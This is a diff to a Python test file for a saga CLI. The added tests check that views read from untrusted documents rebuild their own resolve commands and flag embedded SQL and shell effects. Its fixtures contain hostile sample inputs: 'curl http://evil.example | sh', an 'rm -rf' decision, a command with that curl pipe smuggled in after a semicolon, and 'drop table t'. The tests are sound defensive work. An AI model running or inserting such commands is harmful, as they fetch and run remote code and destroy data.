@@ -3,16 +3,21 @@
 from __future__ import annotations
 
 import copy
+import functools
 from collections.abc import Iterator
 from datetime import UTC, datetime
 from typing import Any
 
+import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from saga_cli.commands.run.list import _cells
 from saga_cli.render.saga_view import view_lines
+from saga_cli.render.text import GIVEN_BY_THE_RUN, to_plain
+from sagas.protocol.foreign_view import read_foreign_view
 from sagas.protocol.saga_view import SagaView
+from sagas.text.shell import saga_command
 
 TIME = "2026-11-27T14:00:00Z"
 ERROR = {"type": "Rejected", "message": "no", "details": {"code": "23514"}}
@@ -66,7 +71,7 @@ def show(view: SagaView) -> None:
 
 
 def test_the_document_without_a_change_is_a_view() -> None:
-    view = SagaView.from_anybody(DOCUMENT)
+    view = read_foreign_view(DOCUMENT, "own-1")
     assert view is not None
     show(view)
 
@@ -83,11 +88,76 @@ def test_any_value_at_any_place_is_refused_or_shown(changes: list[tuple[tuple[An
             parent[path[-1]] = value
         except (KeyError, IndexError, TypeError):
             continue  # an earlier change has replaced the place
-    view = SagaView.from_anybody(document)
+    view = read_foreign_view(document, "own-1")
     if view is not None:
         show(view)
 
 
 @given(json_values)
 def test_a_document_that_is_no_view_is_none(document: Any) -> None:
-    assert SagaView.from_anybody(document) is None
+    assert read_foreign_view(document, "own-1") is None
+
+
+EVIL = "curl http://evil.example | sh"
+
+
+def parked_document(id: str, *operations: dict[str, Any], **more: Any) -> dict[str, Any]:
+    return {"id": id, "saga": "own", "state": "PARKED", "parked": list(operations), **more}
+
+
+def test_commands_are_built_by_the_reader() -> None:
+    """Words of the view are only compared with commands that the reader has built."""
+    operation = {"step": "a b", "op": "do", "since": TIME, "why": "w", "decisions": ["retry", "done", "rm -rf"]}
+    own = saga_command("resolve", "own-1", "a b", "retry", reason="…")
+    evil = f"saga resolve own-1 'a b' done --reason=… --result '1' ; {EVIL}"
+    for commands in ([], [EVIL], [evil], [f"{own}; {EVIL}", EVIL]):
+        view = read_foreign_view(parked_document("another", {**operation, "commands": commands}), "own-1")
+        assert view is not None
+        assert view.id == "own-1"
+        assert view.parked[0].decisions == ("retry", "done")
+        result = saga_command("resolve", "own-1", "a b", "done", reason="…", result="{…}")
+        assert view.parked[0].commands == (own, result)
+
+
+@pytest.mark.parametrize("id", ["own-1", "-own 1", "own\x1b1", "it's"])
+def test_the_commands_of_the_engine_stay_as_they_are(id: str) -> None:
+    commands = [
+        saga_command("resolve", id, "a#1", "retry", reason="…", **{"with": "{…}"}),
+        saga_command("resolve", id, "a#1", "retry", reason="…", definition="FILE"),
+        saga_command("resolve", id, "a#1", "retry", reason="…"),
+        saga_command("resolve", id, "a#1", "done", reason="…", result="""[{"it's": "…"}]""", evidence="…"),
+        saga_command("resolve", id, "a#1", "compensate", reason="…", evidence="…"),
+        saga_command("resolve", id, "a#1", "skip", reason="…"),
+    ]
+    decisions = ["retry", "done", "compensate", "skip"]
+    operation = {"step": "a#1", "op": "do", "since": TIME, "why": "w", "decisions": decisions, "commands": commands}
+    view = read_foreign_view(parked_document(id, operation), id)
+    assert view is not None
+    assert list(view.parked[0].commands) == commands
+
+
+def test_decisions_about_a_nested_saga_name_it() -> None:
+    commands = [saga_command("resolve", "own-1.c", "pay", "skip", reason="…")]
+    wait = {"id": "own-1.c", "saga": "s", "step": "pay", "op": "do", "since": TIME, "why": "w", "decisions": ["skip"]}
+    child = {"id": "own-1.c", "step": "a", "saga": "s", "state": "PARKED", "waits": [{**wait, "commands": commands}]}
+    operation = {"step": "a", "op": "do", "since": TIME, "why": "w", "decisions": ["skip"], "commands": commands}
+    view = read_foreign_view(parked_document("own-1", operation, children=[child]), "own-1")
+    assert view is not None
+    assert list(view.parked[0].commands) == commands
+    assert view.children[0].waits is not None
+    assert list(view.children[0].waits[0].commands) == commands
+
+
+def test_sql_and_calls_are_marked_as_given_by_the_run() -> None:
+    effect = {"step": "a", "kind": "effect_stays", "command": EVIL}
+    operation = {"step": "a", "op": "undo", "since": TIME, "why": "w", "system": "bank", "sql": ["drop table t"]}
+    for document in (parked_document("own-1", operation), parked_document("own-1", residue=[effect])):
+        view = read_foreign_view(document, "own-1")
+        assert view is not None
+        assert any(GIVEN_BY_THE_RUN in to_plain(line) for line in view_lines(view, now=NOW))
+
+
+@pytest.mark.parametrize("place", ["output", "input"])
+def test_a_view_that_is_nested_too_deep_is_none(place: str) -> None:
+    deep = functools.reduce(lambda inner, _: [inner], range(500), 1)
+    assert read_foreign_view({**DOCUMENT, place: deep}, "own-1") is None
